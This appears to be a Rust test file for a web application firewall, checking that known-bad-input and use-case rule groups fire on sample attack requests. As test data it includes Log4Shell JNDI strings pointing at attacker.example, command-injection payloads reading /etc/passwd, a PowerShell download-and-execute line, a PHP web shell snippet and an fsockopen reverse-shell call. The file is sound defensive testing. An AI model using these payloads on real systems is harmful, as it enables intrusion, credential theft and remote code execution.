//! The managed rule groups, continued: the known bad inputs and use-case groups' rules each
//! fire on a representative attack from their description.

#![allow(clippy::unwrap_used)]

mod common;

use common::ip;
use common::managed::{browser, check, form, post};
use rampart_waf::InspectedRequest;

const BAD: &str = "AWSManagedRulesKnownBadInputsRuleSet";

#[test]
fn known_bad_inputs_rules_fire_on_their_attacks() {
    let exec = "(java.lang.Runtime).getRuntime().exec(\"whoami\")";
    check(
        BAD,
        "JavaDeserializationRCE_Header",
        browser("GET", "/").header("x-api", exec),
    );
    check(
        BAD,
        "JavaDeserializationRCE_Body",
        post(
            "/api",
            "application/x-java-serialized-object",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        ),
    );
    check(
        BAD,
        "JavaDeserializationRCE_URIPath",
        browser("GET", "/x/class.module.classLoader.resources"),
    );
    check(
        BAD,
        "JavaDeserializationRCE_QueryString",
        browser("GET", "/?class.module.classLoader.URLs%5B0%5D=0"),
    );
    check(
        BAD,
        "Host_Localhost_Header",
        InspectedRequest::new("GET", "/", ip("198.51.100.23"))
            .header("host", "localhost:8080")
            .header("user-agent", "x"),
    );
    check(BAD, "Propfind_Method", browser("PROPFIND", "/dav/"));
    check(
        BAD,
        "ExploitablePaths_URIPath",
        browser("GET", "/app/WEB-INF/web.xml"),
    );
    check(
        BAD,
        "Log4JRCE_Header",
        browser("GET", "/").header("x-forwarded-for", "${jndi:ldap://attacker.example/a}"),
    );
    check(
        BAD,
        "Log4JRCE_QueryString",
        browser(
            "GET",
            "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
        ),
    );
    check(
        BAD,
        "Log4JRCE_Body",
        form("name=${${lower:j}ndi:ldap://attacker.example/a}"),
    );
    check(
        BAD,
        "Log4JRCE_URIPath",
        browser("GET", "/$%7Bjndi:rmi://attacker.example/a%7D"),
    );
    check(
        BAD,
        "ReactJSRCE_Body",
        post(
            "/",
            "text/plain;charset=UTF-8",
            r#"{"then":"$1:__proto__:then","status":"resolved_model"}"#,
        ),
    );
}

#[test]
fn use_case_rules_fire_on_their_attacks() {
    let linux = "AWSManagedRulesLinuxRuleSet";
    check(
        linux,
        "LFI_URIPath",
        browser("GET", "/files/%2Fproc%2Fversion"),
    );
    check(
        linux,
        "LFI_QueryString",
        browser("GET", "/read?path=/etc/passwd"),
    );
    check(
        linux,
        "LFI_Header",
        browser("GET", "/").header("referer", "file:///etc/shadow"),
    );
    let unix = "AWSManagedRulesUnixRuleSet";
    check(
        unix,
        "UNIXShellCommandsVariables_QueryString",
        browser("GET", "/ping?host=1.1.1.1%3Becho%20%24HOME"),
    );
    check(
        unix,
        "UNIXShellCommandsVariables_Body",
        form("host=example.com%3B+cat+%2Fetc%2Fpasswd"),
    );
    check(
        unix,
        "UNIXShellCommandsVariables_Header",
        browser("GET", "/").header("x-host", "a`whoami`"),
    );
    let win = "AWSManagedRulesWindowsRuleSet";
    check(
        win,
        "WindowsShellCommands_Cookie",
        browser("GET", "/").header("cookie", "h=a||nslookup example.com"),
    );
    check(
        win,
        "WindowsShellCommands_QueryArguments",
        browser("GET", "/?h=127.0.0.1%3Bcmd%20/c%20dir"),
    );
    check(win, "WindowsShellCommands_Body", form("h=x%26%26whoami"));
    check(
        win,
        "PowerShellCommands_Cookie",
        browser("GET", "/").header("cookie", "p=Invoke-Expression"),
    );
    check(
        win,
        "PowerShellCommands_QueryArguments",
        browser(
            "GET",
            "/?c=IEX(New-Object%20Net.WebClient).DownloadString('http://x')",
        ),
    );
    check(
        win,
        "PowerShellCommands_Body",
        form("c=powershell+-EncodedCommand+SQBFAFgA"),
    );
    let php = "AWSManagedRulesPHPRuleSet";
    check(
        php,
        "PHPHighRiskMethodsVariables_Header",
        browser("GET", "/").header("x-cmd", "<?php system($_GET['c']); ?>"),
    );
    check(
        php,
        "PHPHighRiskMethodsVariables_QueryString",
        browser(
            "GET",
            "/?page=php://filter/convert.base64-encode/resource=index",
        ),
    );
    check(
        php,
        "PHPHighRiskMethodsVariables_Body",
        form("x=fsockopen(%22203.0.113.9%22,4444)"),
    );
    let admin = "AWSManagedRulesAdminProtectionRuleSet";
    check(
        admin,
        "AdminProtection_URIPath",
        browser("GET", "/sqlmanager/index.php"),
    );
    check(
        admin,
        "AdminProtection_URIPath",
        browser("GET", "/wp-admin/"),
    );
}

#[test]
fn prose_with_separators_is_not_a_shell_command() {
    let res = common::Res::default();
    let resolver = rampart_waf::managed::ManagedResolver::new(&res);
    let prose = form(
        "comment=I+love+dogs%3B+cat+people+too%3B+id+say+so+%26+echo+that.+Sleep+well%7C+rm+-+101",
    );
    for group in [
        "AWSManagedRulesUnixRuleSet",
        "AWSManagedRulesWindowsRuleSet",
        "AWSManagedRulesPHPRuleSet",
    ] {
        let got = common::managed::labels(group, &prose, &resolver);
        assert!(got.is_empty(), "{group}: {got:?}");
    }
}
